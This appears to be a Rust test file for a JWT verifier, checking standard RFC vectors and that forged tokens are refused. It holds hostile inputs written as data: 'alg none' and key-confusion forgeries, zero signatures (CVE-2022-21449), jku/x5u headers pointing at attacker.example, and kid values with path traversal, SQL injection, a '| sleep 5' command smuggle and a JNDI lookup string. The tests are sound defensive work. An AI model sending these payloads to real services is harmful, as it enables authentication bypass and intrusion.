//! Tokens that others made, tokens from the standards, and tokens that attackers would make.

use super::keys::{Algorithm, KeySet, Verdict};
use super::testing::{NOW, SECRET, Signer, World, claims, claims_with, hs256, jwks, part, verify, verify_for, world};
use super::{Issuer, Refusal, TOKEN_MAX};
use crate::consumer::Consumers;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::Duration;

fn fixture() -> Value {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/jwt/tokens.json");
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

fn text(value: &Value) -> &str {
    value.as_str().unwrap_or_else(|| panic!("{value} is no text"))
}

fn foreign_rules(fixture: &Value) -> String {
    format!("issuer = {}\naudience = [{}]\n", fixture["issuer"], fixture["audience"])
}

const ALL: &str =
    "algorithms = ['HS256', 'HS384', 'HS512', 'RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'EdDSA']\n";

#[test]
fn no_token_of_another_library_is_refused() {
    let (world, fixture) = (world(), fixture());
    let keys: Vec<&Value> = fixture["keys"].as_array().unwrap().iter().map(|key| &key["jwk"]).collect();
    let set = world.file("jwks.json", json!({ "keys": keys }).to_string());
    let rules = foreign_rules(&fixture);
    let all = world.issuer(&format!("{ALL}jwks = {{ file = {set} }}\n{rules}"));
    let tokens = fixture["tokens"].as_array().unwrap();
    let mut seen = std::collections::HashSet::new();
    for token in tokens {
        let identity = verify(&all, text(&token["token"])).unwrap_or_else(|why| panic!("{}: {why:?}", token["name"]));
        assert_eq!(*identity.name, *text(&token["sub"]));
        seen.insert(text(&token["algorithm"]));
    }
    assert!(tokens.len() >= 100, "{}", tokens.len());
    assert_eq!(seen.len(), Algorithm::ALL.len());
}

#[test]
fn each_form_of_a_public_key_verifies_its_tokens_and_no_others() {
    let (world, fixture) = (world(), fixture());
    let rules = foreign_rules(&fixture);
    let tokens = fixture["tokens"].as_array().unwrap();
    let mut forms = 0;
    for key in fixture["keys"].as_array().unwrap() {
        for pem in key["pems"].as_array().unwrap() {
            forms += 1;
            let path = world.file("key.pem", text(pem));
            let issuer = world.issuer(&format!("algorithms = {}\npublic_key = {path}\n{rules}", key["algorithms"]));
            for token in tokens {
                let own = token["key"] == key["name"];
                let verified = verify(&issuer, text(&token["token"]));
                assert_eq!(verified.is_ok(), own, "{} with {}: {:?}", token["name"], key["name"], verified.err());
            }
        }
    }
    assert!(forms >= 15, "{forms}");
}

#[test]
fn tokens_that_are_rightly_signed_and_yet_wrong_are_refused_for_their_reason() {
    let (world, fixture) = (world(), fixture());
    let keys: Vec<&Value> = fixture["keys"].as_array().unwrap().iter().map(|key| &key["jwk"]).collect();
    let set = world.file("jwks.json", json!({ "keys": keys }).to_string());
    let issuer = world.issuer(&format!("{ALL}jwks = {{ file = {set} }}\n{}", foreign_rules(&fixture)));
    let refused = fixture["refused"].as_array().unwrap();
    for case in refused {
        let refusal = verify(&issuer, text(&case["token"])).err();
        assert_eq!(refusal.map(|refusal| format!("{refusal:?}")).as_deref(), case["reason"].as_str(), "{case}");
    }
    assert!(refused.len() >= 20);
}

// RFC 7515 appendix A: the payload of A.1 to A.3, and what is signed with which key.
const RFC_PAYLOAD: &str = "eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ";
const RFC_EXPIRES: u64 = 1_300_819_380;

fn rfc_case(header: &str, signature: &str, algorithm: &str, key: Value) {
    let world = World { clock: crate::clock::ManualClock::new(), ..world() };
    world.clock.advance(Duration::from_secs(RFC_EXPIRES - 1));
    let set = world.file("jwks.json", json!({ "keys": [key] }).to_string());
    let text = format!("algorithms = ['{algorithm}']\njwks = {{ file = {set} }}\nleeway = '0s'\nclaims = {{ consumer = 'iss' }}");
    let issuer = world.issuer(&text);
    let token = format!("{header}.{RFC_PAYLOAD}.{signature}");
    let identity = verify(&issuer, &token).unwrap_or_else(|why| panic!("{algorithm}: {why:?}"));
    assert_eq!(&*identity.name, "joe");
    assert_eq!(identity.claims.as_ref().unwrap()["http://example.com/is_root"], true);
    world.clock.advance(Duration::from_secs(1));
    assert_eq!(verify(&issuer, &token).err(), Some(Refusal::Expired));
}

#[test]
fn rfc_7515_a_1_hs256() {
    rfc_case(
        "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9",
        "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
        "HS256",
        json!({
            "kty": "oct",
            "k": "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow",
        }),
    );
}

#[test]
fn rfc_7515_a_2_rs256() {
    rfc_case(
        "eyJhbGciOiJSUzI1NiJ9",
        "cC4hiUPoj9Eetdgtv3hF80EGrhuB__dzERat0XF9g2VtQgr9PJbu3XOiZj5RZmh7AAuHIm4Bh-0Qc_lF5YKt_O8W2Fp5jujGbds9uJdbF9CUAr7t1dnZcAcQjb\
         KBYNX4BAynRFdiuB--f_nZLgrnbyTyWzO75vRK5h6xBArLIARNPvkSjtQBMHlb1L07Qe7K0GarZRmB_eSN9383LcOLn6_dO--xi12jzDwusC-eOkHWEsqtFZES\
         c6BfI7noOPqvhJ1phCnvWh6IeYI2w9QOYEUipUTI8np6LbgGY9Fs98rqVt5AXLIhWkWywlVmtVrBp0igcN_IoypGlUPQGe77Rw",
        "RS256",
        json!({
            "kty": "RSA",
            "n": "ofgWCuLjybRlzo0tZWJjNiuSfb4p4fAkd_wWJcyQoTbji9k0l8W26mPddxHmfHQp-Vaw-4qPCJrcS2mJPMEzP1Pt0Bm4d4QlL-yRT-SFd2lZS-pCgNMsD1W\
                  _YpRPEwOWvG6b32690r2jZ47soMZo9wGzjb_7OMg0LOL-bSf63kpaSHSXndS5z5rexMdbBYUsLA9e-KXBdQOS-UTo7WTBEMa2R2CapHg665xsmtdVMTBQY4uDZl\
                  xvb3qCo5ZwKh9kG4LT6_I5IhlJH7aGhyxXFvUK-DWNmoudF8NAco9_h9iaGNj8q2ethFkMLs91kzk2PAcDTW9gb54h4FRWyuXpoQ",
            "e": "AQAB",
        }),
    );
}

#[test]
fn rfc_7515_a_3_es256() {
    rfc_case(
        "eyJhbGciOiJFUzI1NiJ9",
        "DtEhU3ljbEg8L38VWAfUAqOyKAM6-Xx-F4GawxaepmXFCgfTjDxw5djxLa8ISlSApmWQxfKTUJqPP3-Kg6NU1Q",
        "ES256",
        json!({
            "kty": "EC", "crv": "P-256",
            "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
            "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0",
        }),
    );
}

/// Its payload is no JSON, so it is asked of the key set alone.
#[test]
fn rfc_8037_a_4_ed25519() {
    let key = json!({ "keys": [{ "kty": "OKP", "crv": "Ed25519", "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo" }] });
    let set = KeySet::jwks(key.to_string().as_bytes(), true).unwrap();
    let signature = "hgyY0il_MGCjP0JzlnLWG1PPOt7-09PGcvMg3AIbQR6dWbhijcNR4ki4iylGjg5BhVsPt9g7sVvpAr_MuM0KAg";
    let signature = URL_SAFE_NO_PAD.decode(signature).unwrap();
    let message = b"eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc";
    assert_eq!(set.verify(Algorithm::EdDsa, None, message, &signature), Verdict::Good);
    assert_eq!(set.verify(Algorithm::EdDsa, None, b"eyJhbGciOiJFZERTQSJ9.", &signature), Verdict::Bad);
}

/// What a set says where keys of one kind have ids, and one has none.
#[test]
fn a_kid_that_names_no_key_is_unknown_unless_a_key_without_one_verifies() {
    let (named, nameless, stranger) = (Signer::eddsa("a"), Signer::eddsa("b"), Signer::eddsa("c"));
    let mut keys: Value = serde_json::from_str(&jwks(&[&nameless, &named])).unwrap();
    keys["keys"][0].as_object_mut().unwrap().remove("kid").unwrap();
    let set = KeySet::jwks(keys.to_string().as_bytes(), true).unwrap();
    let verdict = |signer: &Signer, kid: Option<&str>| {
        let token = signer.token(&claims());
        let (message, signature) = token.rsplit_once('.').unwrap();
        set.verify(Algorithm::EdDsa, kid, message.as_bytes(), &URL_SAFE_NO_PAD.decode(signature).unwrap())
    };
    for (signer, kid, wanted) in [
        (&named, Some("a"), Verdict::Good),
        (&named, Some("b"), Verdict::Unnamed),
        (&named, None, Verdict::Good),
        (&nameless, Some("a"), Verdict::Good),
        (&nameless, Some("b"), Verdict::Good),
        (&stranger, Some("a"), Verdict::Bad),
        (&stranger, Some("c"), Verdict::Unnamed),
        (&stranger, None, Verdict::Bad),
    ] {
        assert_eq!(verdict(signer, kid), wanted, "{} {kid:?}", signer.kid);
    }
    // Of more keys without an id than are tried, the one that is named is not left out.
    let others: Vec<Signer> = (0..20).map(|_| Signer::eddsa("other")).collect();
    let mut keys: Value = serde_json::from_str(&jwks(&others.iter().chain([&named]).collect::<Vec<_>>())).unwrap();
    keys["keys"].as_array_mut().unwrap().iter_mut().take(20).for_each(|key| drop(key.as_object_mut().unwrap().remove("kid")));
    let set = KeySet::jwks(keys.to_string().as_bytes(), true).unwrap();
    let token = named.token(&claims());
    let (message, signature) = token.rsplit_once('.').unwrap();
    let signature = URL_SAFE_NO_PAD.decode(signature).unwrap();
    assert_eq!(set.verify(Algorithm::EdDsa, Some("a"), message.as_bytes(), &signature), Verdict::Good);
}

/// An issuer with one key of each kind, each under its name, and the keys.
fn every_kind(world: &World) -> (Arc<Issuer>, Vec<Signer>) {
    let signers = vec![hs256(), Signer::rs256("rsa"), Signer::es256("ec"), Signer::eddsa("ed")];
    let set = world.file("all.json", jwks(&signers.iter().collect::<Vec<_>>()));
    let algorithms = "algorithms = ['HS256', 'RS256', 'ES256', 'EdDSA']";
    (world.issuer(&format!("{algorithms}\njwks = {{ file = {set} }}")), signers)
}

#[test]
fn unsigned_tokens_are_refused_in_every_spelling() {
    let world = world();
    let (issuer, signers) = every_kind(&world);
    for alg in ["none", "None", "NONE", "nOnE", "none ", "", "null", "\u{0}none"] {
        for signer in &signers {
            let header = json!({ "alg": alg, "kid": signer.kid });
            assert_eq!(verify(&issuer, &signer.with_header(&header, &claims())).err(), Some(Refusal::Algorithm), "{alg}");
        }
        let unsigned = format!("{}.{}.", part(json!({ "alg": alg }).to_string()), part(claims().to_string()));
        assert!(verify(&issuer, &unsigned).is_err() && verify(&issuer, unsigned.trim_end_matches('.')).is_err());
    }
}

#[test]
fn a_public_key_is_never_a_secret() {
    let world = world();
    for signer in [Signer::rs256("rsa"), Signer::es256("ec"), Signer::eddsa("ed")] {
        let pem = signer.pem();
        let path = world.file("key.pem", &pem);
        let issuer = world.issuer(&format!("algorithms = ['{}']\npublic_key = {path}", signer.algorithm));
        assert!(verify(&issuer, &signer.token(&claims())).is_ok());
        // Whatever of it somebody may take for the secret: the text, its trimmed text, its bytes.
        let der: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
        let der = base64::engine::general_purpose::STANDARD.decode(der).unwrap();
        for secret in [pem.as_bytes(), pem.trim().as_bytes(), &der] {
            let forged = Signer::hs256(&signer.kid, secret).token(&claims());
            assert_eq!(verify(&issuer, &forged).err(), Some(Refusal::Algorithm), "{}", signer.algorithm);
        }
    }
    // Also where HS256 is listed for another key.
    let (issuer, signers) = every_kind(&world);
    for signer in &signers[1..] {
        let forged = Signer::hs256(&signer.kid, signer.pem().as_bytes()).token(&claims());
        assert_eq!(verify(&issuer, &forged).err(), Some(Refusal::UnknownKey), "{}", signer.algorithm);
    }
    for kid in [Some("k1"), None] {
        let forged = Signer::hs256("x", signers[1].pem().as_bytes());
        let header = json!({ "alg": "HS256", "kid": kid });
        let header = if kid.is_none() { json!({ "alg": "HS256" }) } else { header };
        assert_eq!(verify(&issuer, &forged.with_header(&header, &claims())).err(), Some(Refusal::Signature));
    }
}

#[test]
fn a_key_verifies_only_the_algorithms_of_its_kind() {
    let world = world();
    let (issuer, signers) = every_kind(&world);
    for signer in &signers {
        for algorithm in Algorithm::ALL.map(Algorithm::name) {
            let header = json!({ "alg": algorithm, "kid": signer.kid });
            let verified = verify(&issuer, &signer.with_header(&header, &claims()));
            assert_eq!(verified.is_ok(), algorithm == signer.algorithm, "{} as {algorithm}", signer.algorithm);
        }
    }
}

/// CVE-2022-21449: r = s = 0 verified everything; and other signatures of no substance.
#[test]
fn empty_and_degenerate_signatures_are_refused() {
    let world = world();
    let (issuer, signers) = every_kind(&world);
    // The order of P-256: r and s must lie between 1 and it.
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order: Vec<u8> = (0..64).step_by(2).map(|i| u8::from_str_radix(&order[i..i + 2], 16).unwrap()).collect();
    for signer in &signers {
        let good = signer.token(&claims());
        let (message, signature) = good.rsplit_once('.').unwrap();
        let length = URL_SAFE_NO_PAD.decode(signature).unwrap().len();
        let mut candidates =
            vec![vec![0; length], vec![0xff; length], vec![0; length - 1], vec![0; length + 1], vec![0], vec![1; length]];
        candidates.push([order.clone(), order.clone()].concat());
        candidates.push([order.clone(), vec![0; 32]].concat());
        // What DER makes of two zeros.
        candidates.push(vec![0x30, 6, 2, 1, 0, 2, 1, 0]);
        for forged in candidates {
            let verified = verify(&issuer, &format!("{message}.{}", part(&forged)));
            assert_eq!(verified.err(), Some(Refusal::Signature), "{}: {forged:02x?}", signer.algorithm);
        }
        assert_eq!(verify(&issuer, &format!("{message}.")).err(), Some(Refusal::Malformed));
        assert_eq!(verify(&issuer, message).err(), Some(Refusal::Malformed));
    }
}

#[test]
fn no_changed_bit_of_a_token_goes_unseen() {
    let world = world();
    let (issuer, signers) = every_kind(&world);
    for signer in &signers {
        let good = signer.token(&claims()).into_bytes();
        assert!(verify(&issuer, std::str::from_utf8(&good).unwrap()).is_ok());
        for at in 0..good.len() {
            for bit in [1, 2, 4, 16] {
                let mut forged = good.clone();
                forged[at] ^= bit;
                let Ok(forged) = std::str::from_utf8(&forged) else { continue };
                assert!(verify(&issuer, forged).is_err(), "{}: {at}, {forged}", signer.algorithm);
            }
        }
    }
}

/// Only the exact text that was signed counts: no other spelling of the same bytes.
#[test]
fn other_spellings_of_a_good_token_are_refused() {
    let world = world();
    let (issuer, signers) = every_kind(&world);
    for signer in &signers {
        let good = signer.token(&claims());
        let [header, payload, signature] = good.split('.').collect::<Vec<_>>()[..] else { panic!("{good}") };
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let last = *signature.as_bytes().last().unwrap();
        let index = alphabet.iter().position(|byte| *byte == last).unwrap();
        let stray: Vec<String> = (1..4_usize)
            .filter(|bits| signature.len() % 4 != 0 && (index ^ bits) < 64)
            .map(|bits| format!("{header}.{payload}.{}{}", &signature[..signature.len() - 1], alphabet[index ^ bits] as char))
            .collect();
        let mut spellings = vec![
            format!("{good}."),
            format!("{good}.."),
            format!(".{good}"),
            format!("{good}="),
            format!("{good}=="),
            format!("{header}=.{payload}.{signature}"),
            format!(" {good}"),
            format!("{good} "),
            format!("{good}\t"),
            format!("{good}\n"),
            format!("{good}\0"),
            format!("{header} .{payload}.{signature}"),
            format!("{header}.{payload}.{signature}.{signature}"),
            format!("{header}..{payload}.{signature}"),
            format!("\"{good}\""),
            format!("Bearer {good}"),
            good.replace('.', "%2E"),
            good.replace('.', "\u{ff0e}"),
            format!("{header}.{payload}.{}", signature.to_ascii_uppercase()),
            format!("{{\"protected\":\"{header}\",\"payload\":\"{payload}\",\"signature\":\"{signature}\"}}"),
        ];
        if signature.contains(['-', '_']) {
            spellings.push(format!("{header}.{payload}.{}", signature.replace('-', "+").replace('_', "/")));
        }
        spellings.extend(stray);
        for spelling in spellings {
            assert!(verify(&issuer, &spelling).is_err(), "{}: {spelling:?}", signer.algorithm);
        }
        assert!(verify(&issuer, &good).is_ok());
    }
}

/// A token that brings its own key, or says where one is, is judged by ours all the same.
#[test]
fn keys_that_a_token_brings_along_mean_nothing() {
    let world = world();
    let (issuer, signers) = every_kind(&world);
    let attacker = Signer::rs256("rsa");
    for bait in [
        json!({ "jwk": attacker.jwk() }),
        json!({ "jku": "https://attacker.example/jwks.json" }),
        json!({ "x5u": "https://attacker.example/cert.pem" }),
        json!({ "x5c": ["MIIB"] }),
        json!({ "jwk": { "kty": "oct", "k": part(SECRET) } }),
    ] {
        for kid in [json!("rsa"), json!("attacker"), json!("https://attacker.example/jwks.json")] {
            let mut header = json!({ "alg": "RS256", "kid": kid });
            header.as_object_mut().unwrap().extend(bait.as_object().unwrap().clone());
            assert!(verify(&issuer, &attacker.with_header(&header, &claims())).is_err(), "{header}");
        }
        let mut header = json!({ "alg": "RS256", "kid": "rsa" });
        header.as_object_mut().unwrap().extend(bait.as_object().unwrap().clone());
        assert!(verify(&issuer, &signers[1].with_header(&header, &claims())).is_ok(), "ignored, not forbidden: {header}");
    }
}

/// A `kid` is compared and nothing else: it is no path, no query and no URL.
#[test]
fn a_kid_is_only_a_name() {
    let world = world();
    let (issuer, _) = every_kind(&world);
    let empty = Signer::hs256("x", b"");
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        "x' UNION SELECT 'secret' --",
        "k1' OR '1'='1",
        "k1\0",
        "K1",
        "k1 ",
        "| sleep 5",
        "${jndi:ldap://attacker.example/a}",
        "http://attacker.example/key",
        "",
        &"k".repeat(4000),
    ] {
        let header = json!({ "alg": "HS256", "kid": kid });
        assert_eq!(verify(&issuer, &empty.with_header(&header, &claims())).err(), Some(Refusal::UnknownKey), "{kid}");
        assert_eq!(verify(&issuer, &hs256().with_header(&header, &claims())).err(), Some(Refusal::UnknownKey), "{kid}");
    }
    for kid in [json!(1), json!(["k1"]), json!({ "k1": 1 }), json!(null)] {
        let header = json!({ "alg": "HS256", "kid": kid });
        assert_eq!(verify(&issuer, &hs256().with_header(&header, &claims())).err(), Some(Refusal::WrongType), "{kid}");
    }
}

#[test]
fn json_with_two_readings_is_refused_even_if_signed() {
    let world = world();
    let issuer = world.secret_issuer("");
    let exp = NOW + 60;
    for (header, payload) in [
        (r#"{"alg":"none","alg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","exp":{exp}}}"#)),
        (r#"{"alg":"HS256","\u0061lg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","exp":{exp}}}"#)),
        (r#"{"alg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","sub":"admin","exp":{exp}}}"#)),
        (r#"{"alg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","exp":1,"exp":{exp}}}"#)),
        (r#"{"alg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","exp":{exp},"x":{{"r":1,"r":2}}}}"#)),
        (r#"{"alg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","exp":{exp}}} {{"sub":"admin"}}"#)),
        (r#"{"alg":"HS256"}"#.to_owned(), format!(r#"{{"sub":"a","exp":{exp},"x":{}1{}}}"#, "[".repeat(500), "]".repeat(500))),
        (r#"{"alg":"HS256"}"#.to_owned(), format!(r#"[{{"sub":"a","exp":{exp}}}]"#)),
        (r#"{"alg":"HS256"}"#.to_owned(), format!("\u{feff}{{\"sub\":\"a\",\"exp\":{exp}}}")),
        (r#"{"alg":"HS256"}"#.to_owned(), format!("{{\"sub\":\"a\u{0}\",\"exp\":{exp}}}")),
        (r#"{"alg":"HS256"}"#.to_owned(), r#"{"sub":"a","exp":1e400}"#.to_owned()),
        (format!(r#"{{"alg":"HS256","x":{}1{}}}"#, "[".repeat(500), "]".repeat(500)), format!(r#"{{"sub":"a","exp":{exp}}}"#)),
    ] {
        let token = hs256().raw(header.as_bytes(), payload.as_bytes());
        assert_eq!(verify(&issuer, &token).err(), Some(Refusal::Malformed), "{header} {payload}");
    }
    let latin1 = hs256().raw(br#"{"alg":"HS256"}"#, b"{\"sub\":\"\xe9\",\"exp\":9999999999}");
    assert_eq!(verify(&issuer, &latin1).err(), Some(Refusal::Malformed));
}

#[test]
fn the_length_of_a_token_is_bounded() {
    let world = world();
    let issuer = world.secret_issuer("");
    let padded = |size: usize| hs256().token(&claims_with(json!({ "x": "x".repeat(size) })));
    let mut size = 5_900;
    while padded(size + 1).len() <= TOKEN_MAX {
        size += 1;
    }
    assert!(verify(&issuer, &padded(size)).is_ok());
    assert_eq!(verify(&issuer, &padded(size + 4)).err(), Some(Refusal::TooLong));
    for huge in ["a.".repeat(1 << 20), ".".repeat(1 << 20), "a".repeat(16 << 20)] {
        assert_eq!(verify(&issuer, &huge).err(), Some(Refusal::TooLong));
    }
    assert_eq!(verify(&issuer, &".".repeat(TOKEN_MAX)).err(), Some(Refusal::Malformed));
}

#[test]
fn a_remembered_token_ends_with_its_time() {
    let world = world();
    let issuer = world.secret_issuer("leeway = '10s'");
    let token = hs256().token(&claims_with(json!({ "exp": NOW + 60 })));
    let first = verify(&issuer, &token).unwrap();
    assert!(Arc::ptr_eq(&first, &verify(&issuer, &token).unwrap()), "the second time it is not verified again");
    world.clock.advance(Duration::from_millis(69_999));
    assert!(verify(&issuer, &token).is_ok());
    world.clock.advance(Duration::from_millis(1));
    assert_eq!(verify(&issuer, &token).err(), Some(Refusal::Expired));
    let off = world.secret_issuer("cache = 0");
    let token = hs256().token(&claims_with(json!({ "exp": NOW + 600 })));
    assert!(!Arc::ptr_eq(&verify(&off, &token).unwrap(), &verify(&off, &token).unwrap()));
}

#[test]
fn issuers_of_one_filter_are_told_apart_by_iss() {
    let world = world();
    let (ours, theirs) = (Signer::es256("k"), Signer::es256("k"));
    let (a, b) = (world.file("a.pem", ours.pem()), world.file("b.pem", theirs.pem()));
    let section = |iss: &str, path: &str| format!("issuer = '{iss}'\nalgorithms = ['ES256']\npublic_key = {path}");
    let issuers = world.issuers(&[("a", &section("https://a/", &a)), ("b", &section("https://b/", &b))]).unwrap();
    let both = ["a", "b"].map(|name| Arc::clone(issuers.get(name).ok().unwrap()));
    let check = |signer: &Signer, iss: Value| {
        let token = signer.token(&claims_with(json!({ "iss": iss })));
        verify_for(&both, &token, &Consumers::default()).map(|identity| identity.credential.to_string())
    };
    assert_eq!(check(&ours, json!("https://a/")), Ok("jwt:a:alice".into()));
    assert_eq!(check(&theirs, json!("https://b/")), Ok("jwt:b:alice".into()));
    assert_eq!(check(&theirs, json!("https://a/")), Err(Refusal::Signature), "nobody speaks for another");
    assert_eq!(check(&ours, json!("https://c/")), Err(Refusal::WrongIssuer));
    assert_eq!(check(&ours, json!(["https://a/"])), Err(Refusal::WrongIssuer));
    let without = ours.token(&claims());
    assert_eq!(verify_for(&both, &without, &Consumers::default()).err(), Some(Refusal::WrongIssuer));
}

#[test]
fn claims_become_roles_scopes_and_tier() {
    let world = world();
    let issuer = world.secret_issuer("claims = { roles = 'realm_access.roles', tier = 'plan' }");
    let more = json!({ "realm_access": { "roles": ["a", "b", "a"] }, "scp": ["x", "y"], "plan": "gold" });
    let identity = verify(&issuer, &hs256().token(&claims_with(more))).unwrap();
    assert_eq!(identity.roles.iter().map(|role| &**role).collect::<Vec<_>>(), ["a", "b"]);
    assert_eq!(identity.scopes.iter().map(|scope| &**scope).collect::<Vec<_>>(), ["x", "y"]);
    assert_eq!((identity.tier.as_deref(), identity.method), (Some("gold"), "jwt"));
    for wrong in [
        json!({ "realm_access": { "roles": "a" }, "plan": 7 }),
        json!({ "scope": 1 }),
        json!({ "realm_access": { "roles": [1] } }),
    ] {
        assert_eq!(verify(&issuer, &hs256().token(&claims_with(wrong.clone()))).err(), Some(Refusal::WrongType), "{wrong}");
    }
    let few = world.secret_issuer("claims = { roles = 'roles', allowed_roles = ['ops', 'audit'] }");
    let identity = verify(&few, &hs256().token(&claims_with(json!({ "roles": ["ops", "admin"] })))).unwrap();
    assert_eq!(identity.roles.iter().map(|role| &**role).collect::<Vec<_>>(), ["ops"], "what is not allowed is no role");
    assert!(few.grants_role("audit") && !few.grants_role("admin"));
    assert!(issuer.grants_role("admin") && !world.secret_issuer("").grants_role("admin"));
    let must = world.secret_issuer("require_consumer = true");
    assert_eq!(verify(&must, &hs256().token(&claims())).err(), Some(Refusal::Consumer));
}

#[test]
fn algorithms_that_do_not_fit_the_keys_are_config_errors() {
    let world = world();
    let rsa = world.file("rsa.pem", Signer::rs256("r").pem());
    let secret = world.file("secret", SECRET);
    let set = world.file("set.json", jwks(&[&Signer::es256("e")]));
    let bad = world.file("bad", "not a key");
    let private = world.file("private.pem", "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n");
    for (text, why) in [
        (
            format!("algorithms = ['HS256']\npublic_key = {rsa}"),
            "HS256 does not fit the keys of this issuer: the key is an RSA key, and it needs a secret",
        ),
        (
            format!("algorithms = ['RS256', 'ES256']\npublic_key = {rsa}"),
            "ES256 does not fit the keys of this issuer: the key is an RSA key",
        ),
        (
            format!("algorithms = ['RS256']\nsecret = {{ file = {secret} }}"),
            "RS256 does not fit the keys of this issuer: the key is a secret",
        ),
        (format!("algorithms = ['HS384']\nsecret = {{ file = {secret} }}"), "the secret has 32 bytes, and it needs at least 48"),
        (
            format!("algorithms = ['ES256', 'RS256']\njwks = {{ file = {set} }}"),
            "RS256 does not fit the keys of this issuer: the key is a key on the curve P-256",
        ),
        ("algorithms = ['HS256']\njwks = { url = 'https://id.example.com/' }".into(), "HS256 needs a shared secret"),
        (format!("algorithms = ['RS256']\npublic_key = {bad}"), "it is not a public key"),
        (format!("algorithms = ['RS256']\npublic_key = {private}"), "it is a private key"),
        (format!("algorithms = ['RS256']\njwks = {{ file = {bad} }}"), "it is not JSON"),
        ("algorithms = ['RS256']".into(), "this issuer has no keys"),
        (format!("algorithms = []\npublic_key = {rsa}"), "without algorithms no token can be verified"),
        (
            format!("algorithms = ['RS256']\npublic_key = {rsa}\nsecret = {{ file = {secret} }}"),
            "has both `secret` and `public_key`",
        ),
        ("algorithms = ['RS256']\njwks = { url = 'ftp://a/' }".into(), "must begin with https://"),
        (format!("algorithms = ['RS256']\njwks = {{ url = 'https://a/', file = {set} }}"), "either `file` or `url`"),
        (format!("algorithms = ['RS256']\npublic_key = {rsa}\nleeway = '11m'"), "`11m` is not possible here"),
    ] {
        let said = world.issuers(&[("main", &text)]).err().unwrap_or_else(|| panic!("accepted: {text}"));
        assert!(said.contains(why), "{text}\nsays: {said}");
    }
}

#[test]
fn key_sets_leave_out_what_cannot_be_used_and_are_bounded() {
    let (rsa, ec) = (Signer::rs256("r"), Signer::es256("e"));
    let changed = |signer: &Signer, name: &str, value: Value| {
        let mut jwk = signer.jwk();
        jwk[name] = value;
        jwk
    };
    let short = changed(&ec, "x", json!(part([1; 31])));
    for (unusable, why) in [
        (changed(&rsa, "use", json!("enc")), "`use` is not `sig`"),
        (changed(&rsa, "key_ops", json!(["sign"])), "do not have `verify`"),
        (changed(&rsa, "alg", json!("RSA-OAEP")), "`alg` is not for signatures"),
        (changed(&rsa, "alg", json!("ES256")), "`alg` is not for keys of its kind"),
        (changed(&rsa, "n", json!(part([0xff; 128]))), "its modulus has 1024 bits"),
        (changed(&ec, "crv", json!("P-521")), "its curve is neither"),
        (changed(&ec, "x", json!(part([1; 32]))), "it is not a point of its curve"),
        (short, "its coordinates do not have the length"),
        (json!({ "kty": "OKP", "crv": "X25519", "x": part([1; 32]) }), "its kind is not known"),
        (json!({ "kty": "oct", "k": part(SECRET) }), "it is a secret"),
        (json!({ "kty": "new" }), ""),
        (json!("text"), "it is not a JWK"),
    ] {
        let set = KeySet::jwks(json!({ "keys": [unusable, ec.jwk()] }).to_string().as_bytes(), true).unwrap();
        assert_eq!(set.iter().count(), 1);
        assert!(set.skipped[0].contains(why), "{unusable}: {:?}", set.skipped);
        assert!(KeySet::jwks(json!({ "keys": [unusable] }).to_string().as_bytes(), true).is_err());
    }
    let many = json!({ "keys": vec![ec.jwk(); 129] }).to_string();
    assert!(KeySet::jwks(many.as_bytes(), true).is_err_and(|why| why.contains("129 keys")));
    for wrong in ["", "{}", "[]", "null", r#"{"keys":{}}"#, r#"{"keys":[]}"#, "<html>"] {
        assert!(KeySet::jwks(wrong.as_bytes(), true).is_err(), "{wrong}");
    }
}
